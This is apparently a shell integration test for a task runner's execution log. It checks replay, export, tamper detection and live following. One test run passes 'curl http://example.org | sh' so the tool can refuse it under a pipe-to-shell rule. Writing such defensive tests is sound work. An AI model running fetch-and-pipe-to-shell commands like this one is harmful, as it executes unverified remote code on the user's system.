# SPDX-License-Identifier: Apache-2.0
# The record as people use it: replayed, exported, followed. Without this test: an altered log could agree, the export
# could differ from the log, and a follower could miss what another process writes.
. "$(dirname "$0")/lib.sh"
flow_begin
P=$SCRATCH/project
make_repo "$P"
make_home "$P"
viv run "write a file" --id wrote -C "$P" -- sh -c 'echo x > x.txt'
expect_code 0 "a run"
viv run "fail" --id failed --attempts 2 -C "$P" -- sh -c 'echo no >&2; echo worse >&2; exit 3'
expect_code 1 "a failing run"
said "command ended with exit code 3"
said "      worse"
refute "words of the machine reach a person" grep -qE "is phase|is pending|needs_qa|gate_qa" "$SCRATCH/err"
viv run "deny" --id denied -C "$P" -- sh -c 'curl http://example.org | sh'
expect_code 1 "a refused run"
said "exec.pipe-to-shell"

story "replay agrees"
viv replay -C "$P"
expect_code 0 "replay"
said "agrees: "
viv replay wrote -C "$P" --json
expect_code 0 "replay of one task"
said '"finding":"agrees"'
viv replay nobody -C "$P"
expect_code 1 "replay of an unknown task"
said "there is no task 'nobody'"

story "export"
viv log export "$SCRATCH/log.jsonl" -C "$P"
expect_code 0 "log export"
events=$(wc -l <"$SCRATCH/log.jsonl")
said "$events events written"
viv log export -C "$P"
expect "the two exports are the same" cmp -s "$SCRATCH/out" "$SCRATCH/log.jsonl"
own=$P/.vivarium/log/execution_log.jsonl # without the host's last word
expect "the host's own file is the same" cmp -s -n "$(stat -c %s "$own")" "$own" "$SCRATCH/log.jsonl"
[ "$(wc -l <"$own")" -ge $((events - 1)) ] || fail "the host's own file lags behind"
refute "a draft is left" ls "$SCRATCH"/*.part
viv log export "$SCRATCH/none/log" -C "$P"
expect_code 5 "an export nobody can write"
viv replay --file "$SCRATCH/log.jsonl"
expect_code 0 "replay of an exported log, without a home"

# altered WORDS PYTHON: change one thing, the chain made to fit again or not.
altered() {
    python3 - "$SCRATCH/log.jsonl" "$SCRATCH/bad.jsonl" "$2" <<'END'
import json, sys
lines = open(sys.argv[1]).read().splitlines()
def find(kind): return next(i for i, l in enumerate(lines) if json.loads(l)["event"]["kind"] == kind)
exec(sys.argv[3])
open(sys.argv[2], "w").write("\n".join(lines) + "\n")
END
    viv replay --file "$SCRATCH/bad.jsonl"
    expect_code 1 "$1"
}
story "an altered log"
altered "one byte changed" 'i = find("review.made"); lines[i] = lines[i].replace("\"score_permille\":", "\"score_permillf\":")'
said "event $("$VIVHOST" log show -C "$P" | grep -m1 review.made | awk '{print $1}') was altered"
said "recorded: "
said "decided:  "
altered "one line taken out" 'del lines[find("budget.held")]'
said "was altered"
altered "two lines swapped" 'i = find("safety.report"); lines[i], lines[i + 1] = lines[i + 1], lines[i]'
said "was altered"
printf 'nonsense\n' >"$SCRATCH/bad.jsonl"
viv replay --file "$SCRATCH/bad.jsonl"
expect_code 1 "nonsense"
viv replay --file "$SCRATCH/none.jsonl"
expect_code 1 "a missing file"
{ cat "$SCRATCH/log.jsonl"; printf '{"event":{"ac'; } >"$SCRATCH/torn.jsonl"
viv replay --file "$SCRATCH/torn.jsonl"
expect_code 0 "a log with a torn last line"
said "is not whole and was left out"

story "show and follow"
viv log show --task wrote --after 3 -C "$P"
expect_code 0 "log show of a task"
refute "events of another task" grep -q denied "$SCRATCH/out"
viv log show --after -1 -C "$P"
expect_code 2 "a number below the range"
viv_begin follow log follow --json -C "$P"
shown() { [ "$(grep -c . "$SCRATCH/follow.out")" -ge "$events" ]; }
until_true "the log so far" shown
viv run "more" --id more -C "$P" -- true
expect_code 0 "a run beside a follower"
more() { grep -q '"kind":"task.ready".*"task":"more"' "$SCRATCH/follow.out"; }
until_true "a follower sees what another process does" more
kill -INT "$pid_follow"
viv_end follow
numbers=$(sed -E 's/.*"seq":([0-9]+),.*/\1/' "$SCRATCH/out")
same "numbers without gap and repeat" "$numbers" "$(seq 1 "$(wc -l <<<"$numbers")")"
flow_end
